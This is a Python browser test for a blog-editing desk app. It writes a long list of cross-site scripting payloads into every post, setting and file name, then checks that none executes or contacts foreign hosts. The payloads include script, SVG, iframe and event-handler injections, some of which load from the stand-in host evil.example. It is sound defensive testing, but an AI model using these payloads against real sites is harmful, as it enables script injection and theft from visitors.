"""Hostile words in every field and file of a site: whatever view of the desk shows them, they are only words."""

from __future__ import annotations

import itertools
import json
import time

import pytest

from support.browser import SECONDS, driving, started
from support.desks import ServedDesk
from support.site import SmallSite

BEGINNINGS = ("", '">', "'>", "-->", "</title>", "</textarea>", "</script>", "</style>", "]]>", "`")
"""What ends that in which a careless page would show the words."""
WORDS = (
    "<x-pwned>words</x-pwned>",
    "<script>pwned({n})</script>",
    "<script src=//evil.example/{n}></script>",
    "<img src=x onerror=pwned({n})>",
    "<img/src='//evil.example/{n}'>",
    "<image src=x onerror=pwned({n})>",
    "<svg onload=pwned({n})>",
    "<svg/onload=pwned({n})//",
    "<svg><script>pwned({n})</script></svg>",
    "<svg><animate onbegin=pwned({n}) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=pwned({n}) xmlns=http://www.w3.org/2000/svg/>#x'>",
    "<math><a xlink:href=javascript:pwned({n})>x</a></math>",
    "<iframe srcdoc='<script>parent.pwned({n})</script>'>",
    "<iframe src=javascript:parent.pwned({n})>",
    "<iframe src=//evil.example/{n}>",
    "<object data=javascript:pwned({n})>",
    "<embed src=//evil.example/{n}>",
    "<video><source onerror=pwned({n})></video>",
    "<audio src=x onerror=pwned({n})>",
    "<body onload=pwned({n})>",
    "<input autofocus onfocus=pwned({n})>",
    "<select autofocus onfocus=pwned({n})>",
    "<textarea autofocus onfocus=pwned({n})>",
    "<details open ontoggle=pwned({n})>",
    "<dialog open onclose=pwned({n})><form method=dialog><button autofocus>x",
    "<marquee onstart=pwned({n})>",
    "<p onanimationstart=pwned({n}) style='animation: x 1s'>x",
    "<p style=\"background:url('//evil.example/{n}')\">x",
    "<style>* {{ background: url(//evil.example/{n}) }}</style>",
    "<style>@import '//evil.example/{n}';</style>",
    "<link rel=stylesheet href=//evil.example/{n}>",
    "<link rel=prefetch href=//evil.example/{n}>",
    "<base href=//evil.example/{n}/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
    "<a href=javascript:pwned({n})>words</a>",
    "<a href='data:text/html,<script>opener.pwned({n})</script>'>words</a>",
    "<form action=javascript:pwned({n})><button>x</button></form>",
    "<button formaction=javascript:pwned({n})>x</button>",
    "<template shadowrootmode=open><img src=x onerror=pwned({n})></template>",
    "<noscript><p title='</noscript><img src=x onerror=pwned({n})>'>",
    "<xmp><p title='</xmp><img src=x onerror=pwned({n})>'>",
    "<plaintext><x-pwned>",
    "<frameset onload=pwned({n})>",
    "<table background=//evil.example/{n}><td>",
    "javascript:pwned({n})",
    "[words](javascript:pwned({n}))",
    "[words](data:text/html,<script>pwned({n})</script>)",
    '![words](x" onerror="pwned({n}))',
    "&lt;script&gt;pwned({n})&lt;/script&gt;",
    "&#60;img src=x onerror=pwned({n})&#62;",
    "\\u003cimg src=x onerror=pwned({n})\\u003e",
    "%3Cimg%20src=x%20onerror=pwned({n})%3E",
    "{{{{constructor.constructor('pwned({n})')()}}}}",
    "${{pwned({n})}}",
    "';pwned({n});//",
    "\u202e<x-pwned>\u2066",
)
PAYLOADS = [f"{begin}{words}".format(n=n) for n, (words, begin) in enumerate(itertools.product(WORDS, BEGINNINGS))]
LOOK = """
window.reached = [];
window.pwned = (number) => window.reached.push(`ran ${number}`);
addEventListener("securitypolicyviolation", (event) => window.reached.push(event.violatedDirective, event.blockedURI));
"""
SEEN = """() => [
    ...window.reached,
    ...[...document.querySelectorAll("x-pwned, base, [srcdoc], [src*='//evil'], [href*='//evil'], [href^=javascript]")]
        .map((found) => found.outerHTML),
]"""


class Hostile:
    """Hands out one payload after the other."""

    def __init__(self) -> None:
        self._left, self.used = itertools.cycle(PAYLOADS), 0

    def words(self) -> str:
        self.used += 1
        return next(self._left)

    def quoted(self) -> str:
        """As a value of YAML and of TOML."""
        return json.dumps(self.words())

    def name(self) -> str:
        """As the name of a file."""
        return self.words().translate(str.maketrans("/\\:", "---"))[:120]

    def post(self) -> str:
        lines = [
            f"{name}: {self.quoted()}"
            for name in ("title", "subtitle", "description", "topic", "image_alt", "image_credit")
        ]
        lines += [f"tags: [{self.quoted()}, {self.quoted()}]", f"series: {self.quoted()}", "date: 2026-10-01"]
        lines += [
            f"content_note: {self.quoted()}",
            f"references: [{self.quoted()}]",
            f"{self.quoted()}: {self.quoted()}",
        ]
        body = "\n\n".join([self.words(), f"## {self.words()}", f"> {self.words()}", f"- {self.words()}"])
        return "---\n" + "\n".join(lines) + f"\n---\n\n{body}\n"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """A site in which nearly everything that somebody may write is hostile, open in a desk."""
    home = tmp_path_factory.mktemp("hostile")
    some = Hostile()
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("HOME", str(home))
        patch.setenv("THERAPYBLOG_CONFIG", str(home / "config"))
        (home / some.name()).mkdir()
        site = SmallSite(home / some.name())
        site.at_once = True
        site.settings(
            f"[practice]\nname = {some.quoted()}\nstreet = {some.quoted()}\n"
            f'[[menu]]\nlabel = {some.quoted()}\nurl = "/blog/"\n'
            f"[[service]]\nname = {some.quoted()}\ndescription = {some.quoted()}\n"
            f"[cta.first]\nheading = {some.quoted()}\ntext = {some.quoted()}\n"
            f'label = {some.quoted()}\nurl = "/blog/"\n',
            title=some.quoted(),
            description=some.quoted(),
        )
        site.write({f"posts/{number}-{some.name()}.md": some.post() for number in range(24)})
        site.write({f"pages/{number}-{some.name()}.md": some.post() for number in range(6)})
        site.write(
            {f"media/{number}-{some.name()}.svg": "<svg xmlns='http://www.w3.org/2000/svg'/>" for number in range(6)}
        )
        credentials = f"[{{letters: {some.quoted()}, name: {some.quoted()}, issuer: {some.quoted()}}}]"
        person = f"---\nname: {some.quoted()}\nrole: {some.quoted()}\ncredentials: {credentials}\n---\n{some.words()}\n"
        site.write(
            {
                f"practitioners/{some.name()}.md": person,
                f"series/{some.name()}.md": f"---\ntitle: {some.quoted()}\n---\n",
            }
        )
        desk = ServedDesk(site.folder)
        for entry in desk.call("documents.list", kind="post")["documents"][:2]:
            desk.call("documents.delete", path=entry["path"])
        entry = desk.call("documents.list", kind="page")["documents"][0]
        opened = desk.call("documents.open", path=entry["path"])
        text = opened["text"] + some.words()
        desk.call("documents.save", path=entry["path"], text=text, digest=opened["digest"], window="one")
        # What is wrong is told with the words that are wrong.
        wrong = "".join(f"{name}: {some.quoted()}\n" for name in ("title", "status", "date", "author", "seires"))
        wrong = f"---\n{wrong}---\n\n[x](/{some.name()})\n"
        with desk.events() as next_event:
            site.write({f"posts/wrong-{some.name()}.md": wrong})
            next_event("site", lambda event: event["problems"])
        assert some.used >= 500
        assert len(set(PAYLOADS)) >= 500
        yield desk
        desk.close()


def test_no_words_of_a_site_are_more_than_words(hostile):
    """Every view that another one leads to is opened; none has an element, an address or a script of the words."""
    with driving() as chromium, started(chromium) as browser:
        context = browser.new_context()
        context.add_init_script(LOOK)
        page = context.new_page()
        page.on("dialog", lambda dialog: (reached.append(f"asked {dialog.message}"), dialog.dismiss()))
        page.on("request", lambda request: asked.append(request.url))
        reached: list[str] = []
        asked: list[str] = []
        try:
            page.goto(hostile.desk.address)
            page.wait_for_selector("main h1")
            start = page.url.partition("#")[0]
            left, seen = ["#/start", "#/new", "#/folder", "#/bring", "#/site"], set[str]()
            shown = ""
            until = time.monotonic() + SECONDS
            while left and len(seen) < 60 and time.monotonic() < until:
                view = left.pop(0)
                if view in seen or sum(other.split("/")[1] == view.split("/")[1] for other in seen) > 9:
                    continue
                seen.add(view)
                page.goto(f"{start}{view}")
                page.wait_for_selector("main h1")
                page.wait_for_timeout(250)
                assert page.evaluate(SEEN) == [], view
                shown += page.inner_text("body")
                left += page.eval_on_selector_all(
                    "a[href^='#/']", "links => links.map((link) => link.getAttribute('href'))"
                )
            assert {view.split("/")[1] for view in seen} >= {
                "start", "new", "folder", "bring", "site", "list", "series", "pictures", "look", "settings", "problems",
                "publish", "bin", "write", "form",
            }  # fmt: skip
            assert reached == []
            hosts = (f"http://{hostile.host}/", f"http://{hostile.preview_host}/", "data:", "blob:")
            assert [url for url in asked if not url.startswith(hosts)] == []
            # They were really there.
            assert sum(words in shown for words in PAYLOADS) > 60
        finally:
            context.close()
